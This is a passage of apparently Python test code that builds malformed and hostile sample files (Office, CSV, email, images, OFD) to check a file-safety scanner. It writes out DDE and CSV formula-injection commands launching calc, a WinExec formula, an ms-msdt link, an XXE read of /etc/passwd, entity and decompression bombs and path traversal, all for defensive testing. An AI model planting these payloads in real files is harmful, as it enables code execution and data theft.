        **{"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{field("DDEAUTO cmd calc")}</w:ftr>'}
    ),
)
add(
    ".docx",
    Fault.EMBEDDED_PROGRAM,
    packed_object=lambda: corpus.word(**{"word/embeddings/oleObject1.bin": native_object()}),
    package_by_its_class=lambda: corpus.word(
        **{"word/embeddings/oleObject1.bin": compound({"a": b"a"}, root_class=PACKAGE)}
    ),
    formula_editor=lambda: corpus.word(**{"word/embeddings/oleObject1.bin": compound({"a": b"a"}, root_class=FORMULA)}),
    program_among_its_pictures=lambda: corpus.word(**{"word/media/image1.png": EXE}),
    program_as_an_object=lambda: corpus.word(**{"word/embeddings/oleObject1.bin": EXE}),
    control_of_a_program=lambda: corpus.word(
        **{
            "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"'
            ' ax:classid="{F935DC22-1CF0-11D0-ADB9-00C04FD58A0B}"/>'
        }
    ),
    packed_object_declared_in_the_text=lambda: corpus.word(
        f'<w:document xmlns:w="{W}" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p>'
        '<o:OLEObject Type="Embed" ProgID="Package"/></w:p></w:body></w:document>'
    ),
)
add(
    ".docx",
    Fault.EMBEDDED_FILE,
    archive_among_its_pictures=lambda: corpus.word(**{"word/media/image1.png": RAR}),
    web_page_among_its_objects=lambda: corpus.word(**{"word/embeddings/a.html": PAGE}),
    other_text_in_its_place=lambda: corpus.word(
        **{"word/_rels/document.xml.rels": relations(("rId1", "aFChunk", "a.rtf"), mode="")}
    ),
)
add(".docx", Fault.SCRIPT, link_that_is_a_script=lambda: word_with("hyperlink", "javascript:alert(1)"))
add(".docx", Fault.LAUNCH, link_to_a_handler=lambda: word_with("hyperlink", "ms-msdt:/id"))
add(
    ".docx",
    Fault.DTD,
    entity=lambda: corpus.word(f'<!DOCTYPE d [<!ENTITY a "b">]>{corpus.WORD_DOCUMENT}'),
    dtd_elsewhere=lambda: corpus.word(**{"a.xml": '<!DOCTYPE d SYSTEM "file:///etc/passwd"><d/>'}),
    entities_without_end=lambda: corpus.word(**{"a.xml": LAUGHS}),
    dtd_in_a_part_called_otherwise=lambda: corpus.with_part_changed(
        corpus.word(**{"word/a.dat": "<!DOCTYPE d><d/>"}),
        "[Content_Types].xml",
        b"</Types>",
        b'<Override PartName="/word/a.dat" ContentType="application/xml"/></Types>',
    ),
    dtd_in_utf_16=lambda: corpus.word(
        **{"a.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d><d/>'.encode("utf-16")}
    ),
)
add(
    ".docx",
    Fault.DAMAGED,
    cut_off=lambda: corpus.word()[:-40],
    broken_xml=lambda: corpus.word(corpus.WORD_DOCUMENT[:-5]),
    unknown_encoding=lambda: corpus.word(**{"a.xml": '<?xml version="1.0" encoding="nothing"?><a/>'}),
    empty_part=lambda: corpus.word(**{"a.xml": ""}),
)
add(".docx", Fault.DAMAGED, old_office_of_zeros=OLE + bytes(600))
add(
    ".docx",
    Fault.NOT_WHAT_IT_SAYS,
    zip=lambda: corpus.zipped({"readme.txt": "nothing"}),
    workbook=corpus.workbook,
    words=b"not a zip",
    other_root=lambda: corpus.word("<document/>"),
    main_part_elsewhere=lambda: corpus.word().replace(b"word/document.xml", b"word/elsewhere.xm"),
)
add(".docx", Fault.OLD_FORMAT, old_word=old_word)
add(
    ".docx",
    Fault.LOCKED,
    encrypted_package=lambda: compound({"EncryptedPackage": b"x" * 5_000, "EncryptionInfo": b"x"}),
)
add(".docx", Fault.LOCKED, locked_entries=lambda: corpus.locked_zip(corpus.word()))
add(".docx", Fault.TOO_MUCH_INSIDE, bomb=lambda: corpus.word(**{"word/media/a.bin": bytes(30_000_000)}))
add(".docx", Fault.DOUBLED_PART, part_in_two_cases=lambda: corpus.word(**{"WORD/document.xml": corpus.WORD_DOCUMENT}))
add(".docx", Fault.OUTSIDE_PATH, path_upwards=lambda: corpus.word(**{"../a.xml": "<a/>"}))
add(
    ".docx",
    Fault.BYTES_BEFORE,
    pdf_before_it=lambda: corpus.pdf() + corpus.word(),
    words_before=lambda: b"MZ" + corpus.word(),
)
add(".docx", Fault.BYTES_AFTER, words_after_it=lambda: corpus.word() + b"words")
add(".docx", Fault.CONTRADICTORY, directory_that_lies=lambda: corpus.lying_zip(corpus.word()))
add(
    ".xlsx",
    Fault.DDE,
    conversation=lambda: book_with(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    ),
    conversation_in_a_cell=lambda: sheet_of("<f>cmd|'/c calc'!A0</f>"),
    conversation_far_down_a_large_table=lambda: large_sheet("<f>cmd|'/c calc'!A0</f>"),
    conversation_in_a_tag_of_three_megabytes=lambda: large_sheet(f"<f a='{'>' * 3_000_000}'>cmd|'/c calc'!A0</f>"),
    conversation_at_the_end_of_a_piece=lambda: large_sheet("<f>cmd|'/c calc'!A0</f>", to=1 << 20),
    conversation_in_a_cell_with_entities=lambda: sheet_of("<f>cmd&#124;&apos;/c calc&apos;!A0</f>"),
    conversation_in_a_name=lambda: corpus.with_part_changed(
        corpus.workbook([1]),
        "xl/workbook.xml",
        b"<definedNames",
        b"<definedName name=\"a\">cmd|'/c'!A0</definedName><definedNames",
    ),
)
add(
    ".xlsx",
    Fault.REMOTE_CONTENT,
    linked_object=lambda: book_with(
        "xl/externalLinks/a.xml", f'<externalLink xmlns="{S}"><oleLink progId="a"/></externalLink>'
    ),
    workbook_of_an_address=lambda: book_with(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        relations(("rId1", "externalLinkPath", "https://example.com/a.xlsx")),
    ),
    workbook_of_a_server=lambda: book_with(
        "xl/externalLinks/_rels/externalLink1.xml.rels", relations(("rId1", "externalLinkPath", "\\\\server\\a.xlsx"))
    ),
    query_on_opening=lambda: book_with(
        "xl/connections.xml", f'<connections xmlns="{S}"><connection id="1" refreshOnLoad="1"/></connections>'
    ),
    address_in_a_formula=lambda: sheet_of('<f>_xlfn.WEBSERVICE("https://example.com/"&amp;A2)</f>'),
    live_data_in_a_formula=lambda: sheet_of('<f>RTD("a.b","","c")</f>'),
)
add(".xlsx", Fault.LAUNCH, program_in_a_formula=lambda: sheet_of('<f>CALL("kernel32","WinExec","JCJ","calc",0)</f>'))
add(
    ".xlsx",
    Fault.MACRO,
    sheet_of_macros=lambda: corpus.with_part_changed(
        corpus.workbook(),
        "[Content_Types].xml",
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        b"application/vnd.ms-excel.macrosheet+xml",
    ),
    workbook_that_holds_macros=lambda: corpus.with_part_changed(
        corpus.workbook(),
        "[Content_Types].xml",
        corpus.SHEET_MAIN,
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ),
)
add(
    ".xlsx",
    Fault.EMBEDDED_PROGRAM,
    packed_object=lambda: with_parts(corpus.workbook(), **{"xl/embeddings/a.bin": native_object()}),
)
add(
    ".xlsx",
    Fault.DAMAGED,
    sheet_that_is_missing=lambda: corpus.workbook().replace(b"sheet1.xml", b"sheet9.xml"),
    no_sheet=lambda: corpus.word(
        f'<workbook xmlns="{S}"/>', "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    ),
    sheet_cut_off=lambda: corpus.with_part_changed(corpus.workbook(), "xl/worksheets/sheet1.xml", b"</worksheet>", b""),
)
add(".xlsx", Fault.NOT_WHAT_IT_SAYS, word_document=corpus.word, zip=lambda: corpus.zipped({"readme.txt": "nothing"}))
add(
    ".xlsx",
    Fault.TOO_MUCH_INSIDE,
    parts_without_end=lambda: corpus.word(**{f"{n}": b"" for n in range(office.MOST_ENTRIES)}),
)
add(".pptx", Fault.LAUNCH, program_on_a_click=lambda: slides_with(CLICK, CLICK + b'action="ppaction://program" '))
add(".pptx", Fault.MACRO, macro_on_a_click=lambda: slides_with(CLICK, CLICK + b'action="ppaction://macro?name=a" '))
add(".pptx", Fault.NOT_WHAT_IT_SAYS, word_document=corpus.word)
add(
    ".pptx",
    Fault.REMOTE_CONTENT,
    film_of_an_address=lambda: with_parts(
        benign("python-pptx-chart.pptx"),
        **{"ppt/slides/_rels/slide9.xml.rels": relations(("rId9", "video", "https://example.com/a"))},
    ),
)
add(
    ".doc",
    Fault.MACRO,
    macros=lambda: old_word(**{"Macros/VBA": b"x"}),
    project=lambda: old_word(**{"a/_VBA_PROJECT": b"x"}),
)
add(
    ".doc",
    Fault.LOCKED,
    password=lambda: old_word(flags=0x0100),
    encrypted_package=lambda: compound({"EncryptedPackage": b"x"}),
)
add(
    ".doc",
    Fault.DDE,
    dde=lambda: old_word(b"\x13 DDEAUTO cmd /k calc \x14\x15"),
    dde_in_wide_letters=lambda: old_word("\x13 DDEAUTO cmd /k calc \x14\x15".encode("utf-16-le")),
)
add(
    ".doc",
    Fault.REMOTE_CONTENT,
    picture_of_an_address=lambda: old_word(b'\x13 INCLUDEPICTURE "https://example.com/a.png" \x14\x15'),
    linked_object=lambda: old_word(**{"ObjectPool/\x01Ole": b"\1\0\0\2\1\0\0\0"}),
    link_by_its_class=lambda: compound({"WordDocument": b"x"}, root_class=OUTWARD),
)
add(".doc", Fault.EXTERNAL_TEMPLATE, template_of_an_address=lambda: old_word(template="https://example.com/a.dot"))
add(".doc", Fault.EMBEDDED_PROGRAM, packed_object=lambda: old_word(**{"ObjectPool/\x01Ole10Native": EXE}))
add(
    ".doc",
    Fault.DAMAGED,
    cut_off=lambda: old_word()[:-3_000],
    no_table=lambda: compound({"WordDocument": struct.pack("<H", 0xA5EC) + bytes(2_000)}),
    other_mark=lambda: compound({"WordDocument": bytes(2_000), "0Table": b"x"}),
    half_a_head=OLE + bytes(100),
)
add(".doc", Fault.OVERLAP, chain_without_end=endless_chain, sector_of_two_streams=shared_sector)
add(".doc", Fault.NOT_WHAT_IT_SAYS, workbook=old_book, rich_text=b"{\\rtf1 \\object}", words=b"words")
add(".doc", Fault.IS_ARCHIVE, new_word=corpus.word)
add(".doc", Fault.IS_WEB_PAGE, web_page=PAGE)
add(".doc", Fault.HIDDEN_ARCHIVE, zip_after_it=lambda: old_word() + small_zip())
add(
    ".xls",
    Fault.MACRO,
    sheet_of_macros=lambda: old_book(record(0x85, bytes(4) + b"\0\1\1\0a")),
    module=lambda: old_book(record(0x85, bytes(4) + b"\0\6\1\0a")),
    macros=lambda: old_book(**{"_VBA_PROJECT_CUR/dir": b"x"}),
)
add(".xls", Fault.LOCKED, password=lambda: old_book(record(0x2F, bytes(6))))
add(".xls", Fault.DDE, conversation=lambda: old_book(record(0x1AE, TALK), record(0x23, b"\0\0abc")))
add(".xls", Fault.REMOTE_CONTENT, linked_object=lambda: old_book(record(0x1AE, TALK), record(0x23, b"\x10\0abc")))
add(".xls", Fault.EMBEDDED_PROGRAM, packed_object=lambda: old_book(**{"MBD0001/\x01Ole10Native": EXE}))
add(
    ".xls",
    Fault.DAMAGED,
    record_that_is_too_long=lambda: compound({"Workbook": record(0x809, bytes(16)) + b"\x85\0\xff\xff" + bytes(5_000)}),
    no_end=lambda: compound({"Workbook": record(0x809, bytes(16)) + record(1, bytes(4_072))}),
)
add(".xls", Fault.NOT_WHAT_IT_SAYS, word=old_word, table_as_text=b"a\tb\r\n")
add(".xls", Fault.IS_WEB_PAGE, table_of_a_web_page=b"<html><table><tr><td>1</td></tr></table></html>")
add(".ppt", Fault.LAUNCH, program_on_a_click=lambda: old_slides(click(2)))
add(
    ".ppt",
    Fault.MACRO,
    macro_on_a_click=lambda: old_slides(click(1)),
    macros=lambda: old_slides(atom(0x400, b"\0\0\0\0\1\0\0\0")),
)
add(".ppt", Fault.REMOTE_CONTENT, linked_object=lambda: old_slides(atom(0x0FD1, bytes(12))))
add(
    ".ppt",
    Fault.EMBEDDED_PROGRAM,
    control=lambda: old_slides(atom(0x0FFB, bytes(4))),
    packed_object=lambda: old_slides(atom(0x1011, native_object())),
    compressed_object=lambda: old_slides(atom(0x1011, bytes(4) + zlib.compress(native_object()), version=0x10)),
)
add(
    ".ppt",
    Fault.LOCKED,
    password=lambda: old_slides(mark=0xF3D1C4DF),
    summary=lambda: old_slides(EncryptedSummary=b"x"),
)
add(
    ".ppt",
    Fault.TOO_MUCH_INSIDE,
    bomb=lambda: old_slides(atom(0x1011, bytes(4) + zlib.compress(bytes(70_000_000)), version=0x10)),
)
add(
    ".ppt",
    Fault.DAMAGED,
    record_that_is_too_long=lambda: old_slides(struct.pack("<HHI", 0, 1000, 1 << 30) + bytes(5_000)),
)
add(".ppt", Fault.NOT_WHAT_IT_SAYS, word=old_word)
add(".wps", Fault.MACRO, macros=lambda: old_word(**{"Macros/VBA": b"x"}))
add(
    ".wps",
    Fault.EXTERNAL_TEMPLATE,
    new_format=lambda: word_with("attachedTemplate", "https://example.com/a", "settings.xml"),
)
add(".et", Fault.DDE, new_format=lambda: sheet_of("<f>cmd|'/c calc'!A0</f>"))
add(".et", Fault.LOCKED, password=lambda: old_book(record(0x2F, bytes(6))))
add(".dps", Fault.LAUNCH, program_on_a_click=lambda: old_slides(click(2)))
add(
    ".png",
    Fault.TOO_MANY_PIXELS,
    flood=lambda: corpus.pixel_bomb(60_000),
    flood_below_the_librarys_bound=lambda: corpus.pixel_bomb(16_000),
)
add(".jpg", Fault.TOO_MANY_PIXELS, flood=huge_jpeg)
add(
    ".gif",
    Fault.TOO_MANY_PIXELS,
    flood=lambda: b"GIF89a\xff\xff\xff\xff\x00\x00\x00" + benign("picture.gif")[13 + 768 :],
)
add(
    ".bmp",
    Fault.TOO_MANY_PIXELS,
    flood=lambda: b"BM" + struct.pack("<IIIIiiHHII", 99, 0, 54, 40, 65_000, 65_000, 1, 1, 1, 40) + bytes(99),
)
add(".tif", Fault.TOO_MANY_PIXELS, flood=huge_tiff)
add(".tif", Fault.TOO_MUCH_INSIDE, frames_without_end=lambda: corpus.tiff(images.MOST_FRAMES + 1))
add(
    ".png",
    Fault.DAMAGED_PICTURE,
    cut_off=lambda: picture("PNG")[:-60],
    wrong_checksum=lambda: flipped(picture("PNG"), 60),
    no_rows=lambda: (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 0, 0, 0, 0)) + chunk(b"IEND", b"")
    ),
    large_one_without_its_last_rows=lambda: large_png(10, height=10_000),
)
add(
    ".jpg",
    Fault.DAMAGED_PICTURE,
    cut_off=lambda: picture("JPEG")[:-300],
    cut_off_with_an_end=lambda: benign("photo.jpg")[:-500] + b"\xff\xd9",
    progressive_cut_off=lambda: benign("photo-progressive.jpeg")[:-300],
    only_a_head=b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(20) + b"\xff\xd9",
)
add(
    ".tif",
    Fault.DAMAGED_PICTURE,
    cut_off=lambda: picture("TIFF")[:-3_000],
    directory_without_end=endless_tiff,
)
add(".gif", Fault.DAMAGED_PICTURE, cut_off=lambda: benign("picture-animated.gif")[:-300])
add(".bmp", Fault.DAMAGED_PICTURE, cut_off=lambda: picture("BMP")[:-300])
add(
    ".webp",
    Fault.DAMAGED_PICTURE,
    cut_off=lambda: benign("picture.webp")[:-100],
    changed=lambda: benign("picture.webp")[:30] + bytes(200),
)
add(".heic", Fault.DAMAGED_PICTURE, cut_off=lambda: benign("photo.heic")[:-300])
add(
    ".jpg",
    Fault.HIDDEN_ARCHIVE,
    zip_after_it=lambda: picture("JPEG") + small_zip(),
    zip_after_it_and_words=lambda: picture("JPEG") + small_zip() + b"words",
    rar_after_it=lambda: picture("JPEG") + RAR,
    jar_in_its_comment=comment_jpeg,
)
add(".gif", Fault.HIDDEN_ARCHIVE, zip_after_it=lambda: picture("GIF") + small_zip())
add(
    ".png",
    Fault.HIDDEN_ARCHIVE,
    zip_after_it=lambda: picture("PNG") + small_zip(),
    gzip_after_it=lambda: picture("PNG") + b"\x1f\x8b\x08\0",
)
add(".tif", Fault.HIDDEN_ARCHIVE, zip_after_it=lambda: picture("TIFF") + small_zip())
add(".heic", Fault.HIDDEN_ARCHIVE, zip_after_it=lambda: benign("photo.heic") + small_zip())
add(".jpg", Fault.HIDDEN_PROGRAM, program_after_it=lambda: picture("JPEG") + EXE)
add(".png", Fault.HIDDEN_PROGRAM, program_after_it=lambda: picture("PNG") + EXE)
add(
    ".bmp",
    Fault.HIDDEN_PROGRAM,
    program_after_it=lambda: picture("BMP")[:2] + struct.pack("<I", 0) + picture("BMP")[6:] + EXE,
)
add(".webp", Fault.HIDDEN_PROGRAM, program_after_it=lambda: benign("picture.webp") + EXE)
add(
    ".jpg",
    Fault.BYTES_AFTER,
    web_page_after_it=lambda: picture("JPEG") + PAGE,
    words_after_it=lambda: picture("JPEG") + b"words",
)
add(".gif", Fault.BYTES_AFTER, script_after_it=lambda: picture("GIF") + b"alert(1)")
add(".jpg", Fault.NOT_WHAT_IT_SAYS, png=lambda: picture("PNG"), heic=lambda: benign("photo.heic"))
add(".png", Fault.NOT_WHAT_IT_SAYS, gif=lambda: picture("GIF"), pdf=corpus.pdf)
add(".heic", Fault.NOT_WHAT_IT_SAYS, jpg=lambda: picture("JPEG"), film=lambda: benign("film.mp4"))
add(".gif", Fault.IS_PROGRAM, program=EXE)
add(".webp", Fault.IS_WEB_PAGE, drawing=b'<svg xmlns="http://www.w3.org/2000/svg"/>')
add(
    ".txt",
    Fault.CONTROL_CHARACTERS,
    nul=b"a\0b",
    escape_sequences=b"\x1b[31mred",
    mark_of_the_end_within=b"a\x1ab",
    mark_of_the_end_twice=b"a\x1a\x1a",
    program_of_dos=b"MZ\x00\x00\x03\x00",
)
add(
    ".txt",
    Fault.NOT_TEXT,
    half_a_character_of_utf_16=b"\xff\xfea\0b",
    bytes=b"\xff\x81\xff",
    picture=lambda: picture("JPEG"),
)
add(".txt", Fault.IS_WEB_PAGE, web_page=PAGE, web_page_after_blanks=b"\xef\xbb\xbf\n\n <HTML>")
add(".csv", Fault.NOT_TEXT, bytes=b"\xff\x81\xff")
add(
    ".csv",
    Fault.DDE,
    conversation=b"=cmd|'/C calc'!A0,1\n",
    conversation_in_quotes=b"1,\"=cmd|'/C calc'!A0\"\n",
    conversation_after_a_sum=b"1,@SUM(1+1)*cmd|' /C calc'!A0\n",
    conversation_after_a_minus=b"a;-2+3+cmd|' /C calc'!A0\n",
    conversation_in_utf_16="a\t+rundll32|'URL.dll,OpenURL calc'!A\n".encode("utf-16"),
)
add(
    ".eml",
    Fault.EMBEDDED_PROGRAM,
    program=lambda: mail(mailed("a.exe", EXE)),
    program_called_pdf=lambda: mail(mailed("a.pdf", EXE)),
    script=lambda: mail(mailed("a.vbs", b"x")),
    program_in_a_zip=lambda: mail(mailed("a.zip", zipped_file("a.exe", EXE))),
    program_in_a_mail_in_it=lambda: mail(
        "Content-Type: message/rfc822\n\n"
        + mail(mailed("a.exe", EXE)).decode().replace("=b", "=c").replace("--b", "--c")
    ),
)
add(".eml", Fault.EMBEDDED_FILE, rar=lambda: mail(mailed("a.rar", RAR)), web_page=lambda: mail(mailed("a.html", PAGE)))
add(".eml", Fault.SCRIPT, pdf_with_a_script=lambda: mail(mailed("a.pdf", pdf(f"/OpenAction << {JS} >>"))))
add(".eml", Fault.MACRO, document_with_macros=lambda: mail(mailed("a.xlsm", corpus.workbook())))
add(
    ".eml",
    Fault.LOCKED,
    encrypted=lambda: mail(kind='application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"'),
    encrypted_by_pgp=lambda: mail(
        "Content-Type: application/pgp-encrypted\n\nVersion: 1", kind="multipart/encrypted; boundary=b"
    ),
    locked_pdf=lambda: mail(mailed("a.pdf", locked_pdf(6))),
)
add(
    ".eml",
    Fault.DAMAGED,
    cut_off=lambda: benign("mail-attached.eml")[:-3_000],
    changed_attachment=lambda: mail(mailed("a.pdf", corpus.pdf()[:-100])),
)
add(".eml", Fault.DAMAGED_PICTURE, damaged_picture=lambda: mail(mailed("a.jpg", picture("JPEG")[:-300])))
add(".eml", Fault.NOT_WHAT_IT_SAYS, words=b"Hello\n\nthis is no mail\n", picture=lambda: picture("PNG"))
add(".eml", Fault.IS_WEB_PAGE, web_page=PAGE)
add(".eml", Fault.TOO_MUCH_INSIDE, parts_without_end=lambda: mail(*["Content-Type: text/plain\n\na"] * 501))
add(
    ".msg",
    Fault.EMBEDDED_PROGRAM,
    program=lambda: outlook("a.exe", EXE),
    program_called_text=lambda: outlook("a.txt", EXE),
)
add(".msg", Fault.EMBEDDED_FILE, rar=lambda: outlook("a.rar", RAR))
add(".msg", Fault.LOCKED, encrypted=lambda: outlook(kind="IPM.Note.SMIME"))
add(".msg", Fault.NOT_WHAT_IT_SAYS, word=old_word, mail=lambda: benign("mail-plain.eml"))
add(".mp4", Fault.DAMAGED, cut_off=lambda: benign("film.mp4")[:-200], only_a_head=lambda: benign("film.mp4")[:28])
add(".mp4", Fault.LOCKED, encrypted=lambda: benign("film-h264.mp4").replace(b"avc1\0\0\0\0", b"encv\0\0\0\0"))
add(".mp4", Fault.REMOTE_CONTENT, data_elsewhere=lambda: benign("film.mp4").replace(b"url \0\0\0\1", b"url \0\0\0\0"))
add(".mp4", Fault.HIDDEN_ARCHIVE, zip_after_it=lambda: benign("film.mp4") + small_zip())
add(".mp4", Fault.HIDDEN_PROGRAM, program_after_it=lambda: benign("film.mp4") + EXE)
add(".mp4", Fault.NOT_WHAT_IT_SAYS, picture=lambda: benign("photo.heic"), words=b"words without boxes")
add(".mp4", Fault.IS_PROGRAM, program=EXE)
add(
    ".ofd",
    Fault.EMBEDDED_PROGRAM,
    attached_program=lambda: ofd_with("a.exe", EXE),
    resource=lambda: ofd(**{"Doc_0/Res/a.png": EXE}),
)
add(
    ".ofd",
    Fault.EMBEDDED_FILE,
    attached_archive=lambda: ofd_with("a.rar", b"words"),
    film=lambda: ofd(**{"a.xml": "<Movie/>"}),
)
add(".ofd", Fault.SCRIPT, link_that_is_a_script=lambda: ofd(**{"a.xml": '<a><URI URI="javascript:alert(1)"/></a>'}))
add(".ofd", Fault.DTD, entity=lambda: ofd(**{"a.xml": LAUGHS}))
add(".ofd", Fault.LOCKED, encrypted=lambda: ofd(**{"Encryptions.xml": "<a/>"}))
add(
    ".ofd",
    Fault.DAMAGED,
    page_that_is_missing=lambda: ofd(**{"Doc_0/Pages/Page_0/Content.xml": None}),
    broken_xml=lambda: ofd(**{"a.xml": "<a>"}),
    cut_off=lambda: ofd()[:-50],
)
add(".ofd", Fault.NOT_WHAT_IT_SAYS, zip=lambda: corpus.zipped({"readme.txt": "nothing"}), word=corpus.word)
add(".ofd", Fault.OUTSIDE_PATH, path_upwards=lambda: ofd(**{"../a.xml": "<a/>"}))
add(".ofd", Fault.TOO_MUCH_INSIDE, bomb=lambda: ofd(**{"Doc_0/a.bin": bytes(30_000_000)}))
